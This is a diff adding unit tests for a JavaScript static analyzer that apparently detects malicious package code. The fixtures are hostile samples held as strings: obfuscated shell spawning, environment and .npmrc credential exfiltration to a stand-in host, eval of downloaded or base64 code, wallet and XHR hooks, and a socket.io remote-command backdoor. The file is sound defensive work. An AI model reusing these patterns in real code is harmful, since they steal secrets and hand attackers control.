@@ -1,0 +1,101 @@
+import { describe, expect, it } from 'vitest';
+import { javascriptFacts } from './javascript-facts.js';
+
+describe('javascriptFacts', () => {
+  it('resolves callees through require, destructuring, aliases and concatenated names', () => {
+    const facts = javascriptFacts(`
+      const cp = require('child_' + 'process');
+      const { exec: run } = cp;
+      const alias = cp;
+      run('id');
+      alias['sp' + 'awn']('sh', ['-c', 'id']);
+      require(\`node:\${'https'}\`).get('https://x.example/');
+      import('node:dns').then(() => 0);
+    `);
+    const callees = facts.calls.map((c) => c.callee);
+    expect(callees).toContain('child_process.exec');
+    expect(callees).toContain('child_process.spawn');
+    expect(callees).toContain('https.get');
+    expect(facts.hiddenNames.map((h) => h.name)).toEqual(expect.arrayContaining(['child_process', 'spawn']));
+    expect(facts.imports.map((i) => i.module)).toEqual(expect.arrayContaining(['child_process', 'https', 'dns']));
+  });
+
+  it('resolves ES imports and global roots', () => {
+    const facts = javascriptFacts(`import { spawn as s } from 'node:child_process'; import * as h from 'http'; s('x'); h.request({}); globalThis['fet' + 'ch']('https://x.example');`);
+    expect(facts.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.spawn', 'http.request', 'fetch']));
+  });
+
+  it('follows the environment and credential files into a request body', () => {
+    const facts = javascriptFacts(`
+      const os = require('os'), fs = require('fs'), path = require('path');
+      const env = JSON.stringify(process.env);
+      const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+      const body = { env, npmrc, host: os.hostname() };
+      const req = require('https').request({ hostname: 'collect.example', method: 'POST' });
+      req.write(JSON.stringify(body));
+      req.end();
+    `);
+    const write = facts.calls.find((c) => c.callee === 'req.write');
+    expect(write?.onChannel).toBe(true);
+    expect(write?.argLabels).toEqual(expect.arrayContaining(['env', 'secret', 'hostinfo']));
+    expect(facts.envDumps).toHaveLength(1);
+  });
+
+  it('keeps a name bound in one function from leaking into another (minified code reuses names)', () => {
+    const facts = javascriptFacts(`function a(){ var e = process.env; return e; } function b(e){ return fetch('https://x.example', { body: e }); }`);
+    expect(facts.calls.find((c) => c.callee === 'fetch')?.argLabels).not.toContain('env');
+  });
+
+  it('marks data received from the network and decoded text', () => {
+    const facts = javascriptFacts(`
+      const https = require('https');
+      https.get('https://x.example/p', (res) => { res.on('data', (d) => { eval(d); }); });
+      eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
+      const u = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101);
+    `);
+    const evals = facts.calls.filter((c) => c.callee === 'eval');
+    expect(evals[0]?.argLabels).toContain('remote');
+    expect(evals[1]?.directDecode).toBe(true);
+    expect(evals[1]?.args[0]).toBe('console.log(1)');
+    expect(facts.strings.find((s) => s.decoded && s.value === 'https://x.example')).toBeDefined();
+  });
+
+  it('records detached, unref()ed spawns, hooks and endless module-level loops', () => {
+    const facts = javascriptFacts(`
+      const { spawn } = require('child_process');
+      const p = spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore', windowsHide: true });
+      p.unref();
+      window.ethereum.request = async function (a) { return a; };
+      XMLHttpRequest.prototype.send = function () {};
+      for (let i = 666; i < Infinity; i++) { console.log(i); }
+      function f() { while (true) {} }
+    `);
+    const spawn = facts.calls.find((c) => c.callee === 'child_process.spawn');
+    expect(spawn).toMatchObject({ unref: true, options: { detached: 'true', stdio: 'ignore', windowsHide: 'true' } });
+    expect(facts.hooks.map((h) => h.target)).toEqual(['ethereum.request', 'XMLHttpRequest.prototype.send']);
+    const viaVariable = javascriptFacts(`const cp = require('child_process'); const o = { detached: true, stdio: 'ignore' }; cp.spawn('x', [], o).unref();`);
+    expect(viaVariable.calls.find((c) => c.callee === 'child_process.spawn')).toMatchObject({ unref: true, options: { detached: 'true', stdio: 'ignore' } });
+    expect(facts.endlessTopLevelLoops).toEqual([7]);
+  });
+
+  it('counts _0x identifiers and falls back to the tolerant parser', () => {
+    const facts = javascriptFacts(`var _0x1a2b=['a'],_0x3c4d=function(_0x5e6f){return _0x1a2b[_0x5e6f];};`);
+    expect(facts.mangledIdentifiers).toBe(3);
+    const loose = javascriptFacts(`const x: number = 1; require('child_process').exec('id');`);
+    expect(loose.parse).toBe('loose');
+    expect(loose.calls.map((c) => c.callee)).toContain('child_process.exec');
+  });
+});
+
+describe('javascriptFacts: sources and channels found in the 2025 corpus', () => {
+  it('labels a parameter named for key material that is sent in a request header', () => {
+    const facts = javascriptFacts(`function check(privateKey) { fetch("https://x.example/xc", { method: "POST", headers: { "ad-referral": privateKey } }); }`);
+    const call = facts.calls.find((c) => c.callee === 'fetch');
+    expect(call?.argLabels).toContain('keymaterial');
+  });
+  it('treats a socket.io client as a network channel whose messages are remote data', () => {
+    const facts = javascriptFacts(`const io = require("socket.io-client"); const { exec } = require("child_process"); const s = io("http://203.0.113.1:3306"); s.on("command", (msg) => { exec(msg.cmd); });`);
+    const call = facts.calls.find((c) => c.callee === 'child_process.exec');
+    expect(call?.argLabels).toContain('remote');
+  });
+});
